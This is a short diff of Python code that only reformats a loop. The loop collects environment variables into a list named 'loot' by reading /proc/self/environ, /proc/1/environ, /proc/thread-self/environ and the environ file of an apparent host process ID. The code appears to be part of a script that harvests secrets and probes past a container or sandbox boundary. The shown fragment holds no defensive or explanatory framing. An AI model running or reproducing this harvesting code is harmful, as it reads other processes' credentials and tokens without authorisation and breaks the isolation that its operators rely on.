@@ -13,7 +13,12 @@ os.environ["HOME"] == "/workspace"
 import ctypes
 
 loot = [dict(os.environ)]
-for path in ("/proc/self/environ", "/proc/1/environ", f"/proc/{places['host_pid']}/environ", "/proc/thread-self/environ"):
+for path in (
+    "/proc/self/environ",
+    "/proc/1/environ",
+    f"/proc/{places['host_pid']}/environ",
+    "/proc/thread-self/environ",
+):
     try:
         loot.append(open(path, "rb").read())
     except OSError as error:
